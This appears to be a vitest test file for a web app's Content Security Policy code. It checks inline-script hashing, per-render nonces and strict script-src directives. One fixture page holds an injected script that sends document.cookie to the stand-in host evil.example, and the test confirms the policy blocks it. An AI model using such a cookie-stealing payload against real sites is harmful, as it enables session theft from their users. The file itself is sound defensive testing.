import { createHash } from "node:crypto";
import { describe, expect, it } from "vitest";
import { documentPolicy, inlineScriptHashes, scriptNonce } from "./csp.ts";
import { finishRenderedDocument } from "./responses.ts";

const sha = (text: string) => `'sha256-${createHash("sha256").update(text).digest("base64")}'`;

describe("inlineScriptHashes", () => {
  it("hashes the exact text of every inline script that runs", () => {
    const html = `<head><script>window.a = 1;</script></head><body><script type="module">import "/x.js";</script></body>`;
    expect(inlineScriptHashes(html)).toEqual([sha("window.a = 1;"), sha('import "/x.js";')]);
  });

  it("skips external scripts and data blocks such as JSON-LD", () => {
    const html = `<script src="/a.js"></script><script type="application/ld+json">{"@type":"Organization"}</script>`;
    expect(inlineScriptHashes(html)).toEqual([]);
  });

  it("lists a repeated script once", () => {
    expect(inlineScriptHashes("<script>a()</script><script>a()</script>")).toHaveLength(1);
  });
});

describe("documentPolicy", () => {
  it("allows our own scripts and this document's inline scripts, and nothing inline otherwise", () => {
    const policy = documentPolicy("<script>boot()</script>");
    expect(policy).toContain(`script-src 'self' ${sha("boot()")}`);
    expect(policy).not.toMatch(/script-src[^;]*unsafe-inline/);
    for (const directive of ["object-src 'none'", "base-uri 'none'", "frame-ancestors 'none'", "form-action 'self'"]) {
      expect(policy).toContain(directive);
    }
  });
});

/** Whether a policy lets an inline script run (CSP Level 3: a nonce that matches, or the hash of its text). */
function allowsInlineScript(policy: string, script: { nonce?: string; text: string }): boolean {
  const sources = /script-src ([^;]*)/.exec(policy)?.[1]?.split(" ") ?? [];
  if (script.nonce && sources.includes(`'nonce-${script.nonce}'`)) return true;
  if (sources.includes(sha(script.text))) return true;
  const hashesOrNonces = sources.some((source) => /^'(sha256|sha384|sha512|nonce)-/.test(source));
  return sources.includes("'unsafe-inline'") && !hashesOrNonces;
}

describe("the policy of a page rendered per request", () => {
  // A page whose text holds what a request stored: had anything slipped past the sanitizer, it would be here.
  const page = `<html><head><script nonce="n0nce">theme()</script></head><body><p>A post</p><script>fetch("https://evil.example/?"+document.cookie)</script><script nonce="n0nce" type="module">import "/assets/entry.js";</script></body></html>`;

  it("lets the render's own scripts run, by its nonce, and nothing else inline, whatever the page holds", async () => {
    const finished = await finishRenderedDocument(new Response(page), "identity", "n0nce");
    const policy = finished.headers.get("Content-Security-Policy")!;
    expect(allowsInlineScript(policy, { nonce: "n0nce", text: "theme()" })).toBe(true);
    expect(allowsInlineScript(policy, { text: 'fetch("https://evil.example/?"+document.cookie)' })).toBe(false);
    expect(policy).toMatch(/script-src 'self' 'nonce-n0nce';/);
    expect(policy).not.toMatch(/script-src[^;]*(sha256|unsafe-inline)/);
    expect(await finished.text()).toBe(page);
  });

  it("makes a new nonce for every render: 128 random bits", () => {
    const nonces = new Set(Array.from({ length: 100 }, scriptNonce));
    expect(nonces.size).toBe(100);
    for (const nonce of nonces) expect(Buffer.from(nonce, "base64")).toHaveLength(16);
  });
});
